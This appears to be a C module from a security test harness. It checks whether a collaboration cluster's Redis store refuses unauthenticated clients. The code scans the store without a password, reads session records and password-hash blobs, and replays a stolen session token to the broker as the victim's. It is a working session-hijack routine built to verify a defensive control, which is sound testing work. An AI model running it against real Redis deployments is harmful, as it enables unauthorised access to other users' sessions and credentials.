/*  att_store.c: store-snoop (control 17, store_access). The attacker holds network access to
    the cluster's Redis and nothing else: no agent, no password, no key. It connects without
    AUTH, reads the session records (and sees whether the agents' password hashes are
    readable or sealed), and presents a session token found there to the broker as the
    victim's. The HMAC signing keys are not in the store (each broker reads them from its
    credentials file), so a token alone is what it can use: an authenticated read. */
#include "attack.h"

#include <hiredis/hiredis.h>
#include <string.h>

#define SCAN_ROUNDS_MAX 1000 /* SCAN calls, at most: bounded on any store */
#define KEYS_MAX        512  /* session and agent keys kept, each */
#define KEY_LEN_MAX     200

typedef struct {
    char sessions[KEYS_MAX][KEY_LEN_MAX];
    char agents[KEYS_MAX][COLLAB_MAX_AGENT_ID + 1];
    int nsessions, nagents, plain_hashes, sealed_hashes;
} snoop_t;

/*  The part of a key after its last "s:" or "a:" (the record's kind; the prefix is the
    store's own, unknown to the attacker), or NULL. */
static const char *after(const char *key, const char *kind)
{
    const char *hit = NULL;
    for (const char *p = strstr(key, kind); p; p = strstr(p + 1, kind))
        if (p == key || p[-1] == ':')
            hit = p + 2;
    return hit && *hit ? hit : NULL;
}

static void keep_key(snoop_t *s, const char *key)
{
    const char *v;
    if ((v = after(key, "s:")) && strlen(v) < KEY_LEN_MAX && s->nsessions < KEYS_MAX)
        snprintf(s->sessions[s->nsessions++], KEY_LEN_MAX, "%s", key);
    else if ((v = after(key, "a:")) && strlen(v) <= COLLAB_MAX_AGENT_ID && s->nagents < KEYS_MAX)
        snprintf(s->agents[s->nagents++], sizeof s->agents[0], "%s", v);
}

/*  Every key, by SCAN (a bounded number of rounds). Returns the reply of the first
    refusal (NOAUTH) in *refusal, else 0 with the keys kept. */
static int scan_all(redisContext *c, snoop_t *s, char *refusal, size_t cap)
{
    char cursor[32] = "0";
    for (int round = 0; round < SCAN_ROUNDS_MAX; round++) {
        redisReply *r = redisCommand(c, "SCAN %s COUNT 1000", cursor);
        if (!r)
            return snprintf(refusal, cap, "the store closed the connection"), -1;
        if (r->type == REDIS_REPLY_ERROR) {
            snprintf(refusal, cap, "%.200s", r->str ? r->str : "an error");
            freeReplyObject(r);
            return -1;
        }
        bool ok = r->type == REDIS_REPLY_ARRAY && r->elements == 2 &&
                  r->element[0]->type == REDIS_REPLY_STRING &&
                  r->element[1]->type == REDIS_REPLY_ARRAY;
        if (ok) {
            snprintf(cursor, sizeof cursor, "%.30s", r->element[0]->str);
            for (size_t i = 0; i < r->element[1]->elements; i++)
                if (r->element[1]->element[i]->type == REDIS_REPLY_STRING)
                    keep_key(s, r->element[1]->element[i]->str);
        }
        freeReplyObject(r);
        if (!ok)
            return snprintf(refusal, cap, "an unexpected SCAN reply"), -1;
        if (strcmp(cursor, "0") == 0)
            return 0;
    }
    return 0;
}

/*  A record's blob ("v" of its hash), into buf; its length, or 0. */
static size_t read_blob(redisContext *c, const char *key, char *buf, size_t cap)
{
    redisReply *r = redisCommand(c, "HGET %s v", key);
    size_t n = 0;
    if (r && r->type == REDIS_REPLY_STRING && r->len < cap) {
        memcpy(buf, r->str, r->len);
        n = r->len;
    }
    if (r)
        freeReplyObject(r);
    return n;
}

/*  Whether blob holds agent's id as a MessagePack string (a short one: fixstr). */
static bool holds_agent(const char *blob, size_t n, const char *agent)
{
    size_t len = strlen(agent);
    for (size_t i = 0; len < 32 && i + 1 + len <= n; i++)
        if ((unsigned char)blob[i] == (0xa0 | len) && memcmp(blob + i + 1, agent, len) == 0)
            return true;
    return false;
}

/*  Counts the agents' password hashes readable as such (bcrypt's "$2") or sealed. */
static void look_at_hashes(redisContext *c, snoop_t *s, const char *session_key)
{
    /* an agent's key is the session's with its last "s:TOKEN" replaced by "a:ID" */
    const char *tok = after(session_key, "s:");
    int plen = tok ? (int)(tok - 2 - session_key) : 0;
    char key[KEY_LEN_MAX + 80], blob[4096];
    for (int i = 0; i < s->nagents; i++) {
        snprintf(key, sizeof key, "%.*sa:%s", plen, session_key, s->agents[i]);
        size_t n = read_blob(c, key, blob, sizeof blob);
        bool plain = false;
        for (size_t k = 0; k + 3 < n && !plain; k++)
            plain = blob[k] == '$' && blob[k + 1] == '2' && blob[k + 3] == '$';
        s->plain_hashes += n && plain;
        s->sealed_hashes += n && !plain;
    }
}

typedef struct {
    int tried, unanswered, code;
    char agent[COLLAB_MAX_AGENT_ID + 1];
    bool used;
} use_t;

/*  Presents token as agent's session to the broker: an authenticated read. */
static void try_token(const attack_opts_t *o, use_t *u, const char *agent, const char *token)
{
    if (!token || strlen(token) > COLLAB_MAX_SESSION_ID)
        return; /* no session token can be that long: a keyed hash, at least */
    collab_client_t *cl = bare_client(o, agent, NULL);
    if (!cl)
        return;
    collab_client_set_session(cl, token);
    u->tried++;
    int rc = att_call(cl, NULL, "get_session_info", NULL);
    u->unanswered += rc == COLLAB_E_TIMEOUT;
    if (rc != 0 && !control_of(u->code, NULL))
        u->code = rc;
    if (rc == 0) {
        u->used = true;
        snprintf(u->agent, sizeof u->agent, "%s", agent);
    }
    collab_client_destroy(&cl);
}

int attack_store_target(const attack_opts_t *o, char *host, size_t cap, int *port)
{
    char as_tcp[600];
    if (strncmp(o->store, "redis://", 8) != 0) {
        fprintf(stderr, "collab-attack: --store must be redis://HOST:PORT, not '%s'\n", o->store);
        return -1;
    }
    snprintf(as_tcp, sizeof as_tcp, "tcp://%.580s", o->store + 8);
    return lab_target_parse("collab-attack --store", as_tcp, o->target_is_mine, host, cap, port);
}

int attack_store_snoop(const attack_opts_t *o, verdict_t *v)
{
    char host[128], refusal[256] = "", line[64];
    int port;
    if (!o->store[0])
        return verdict(v, ATTACK_ERROR, "store-snoop needs --store redis://HOST:PORT");
    if (attack_store_target(o, host, sizeof host, &port) != 0)
        return verdict(v, ATTACK_ERROR, "refused target %s", o->store);
    victim_t vic;
    const char *args[] = {"--duration-ms", "20000", NULL};
    if (victim_start(&vic, o, "coordinator1", "busy", args) != 0 ||
        !victim_expect(&vic, "ready", line, sizeof line, o->timeout_ms * 3)) {
        victim_stop(&vic);
        return verdict(v, ATTACK_ERROR, "the victim did not start");
    }
    lab_say("victim coordinator1 is logged in and working; connecting to %s without a password",
            o->store);
    struct timeval tv = {o->timeout_ms / 1000, (o->timeout_ms % 1000) * 1000};
    redisContext *c = redisConnectWithTimeout(host, port, tv);
    if (!c || c->err) {
        victim_stop(&vic);
        int rc = verdict(v, ATTACK_ERROR, "cannot reach the store at %s: %s", o->store,
                         c ? c->errstr : "out of memory");
        if (c)
            redisFree(c);
        return rc;
    }
    redisSetTimeout(c, tv);
    static snoop_t s;
    memset(&s, 0, sizeof s);
    if (scan_all(c, &s, refusal, sizeof refusal) != 0) {
        redisFree(c);
        victim_stop(&vic);
        if (strncmp(refusal, "NOAUTH", 6) == 0 || strncmp(refusal, "NOPERM", 6) == 0)
            return blocked(v, "store_access",
                           "the store refuses unauthenticated clients (SCAN without AUTH: %s)",
                           refusal);
        return verdict(v, ATTACK_ERROR, "reading the store: %s", refusal);
    }
    lab_say("read without a password: %d session record(s), %d agent record(s)", s.nsessions,
            s.nagents);
    use_t u = {0};
    char blob[4096];
    for (int i = 0; i < s.nsessions && !u.used && u.unanswered == 0; i++) {
        size_t n = read_blob(c, s.sessions[i], blob, sizeof blob);
        if (i == 0)
            look_at_hashes(c, &s, s.sessions[i]);
        for (int k = 0; k < s.nagents && !u.used && u.unanswered == 0; k++)
            if (holds_agent(blob, n, s.agents[k]))
                try_token(o, &u, s.agents[k], after(s.sessions[i], "s:"));
    }
    redisFree(c);
    victim_stop(&vic);
    char hashes[160];
    snprintf(hashes, sizeof hashes,
             "%d password hash(es) readable, %d sealed; no HMAC key is kept in the store",
             s.plain_hashes, s.sealed_hashes);
    if (u.used)
        return verdict(v, ATTACK_SUCCEEDED,
                       "a live session token of %s read from the store without a password was "
                       "accepted by the broker (get_session_info ok); %s",
                       u.agent, hashes);
    if (u.tried > 0 && u.unanswered == u.tried)
        return unanswered(o, v, "request with a session token read from the store");
    if (s.nsessions == 0) /* the victim is logged in: its session must be there */
        return verdict(v, ATTACK_ERROR, "no session records in the store at %s", o->store);
    return blocked(v, control_of(u.code, "state_at_rest"),
                   "%d session records read from the store, %d tried: none is usable as a "
                   "session token (%s); %s",
                   s.nsessions, u.tried, u.code ? collab_errname(u.code) : "nothing tried", hashes);
}
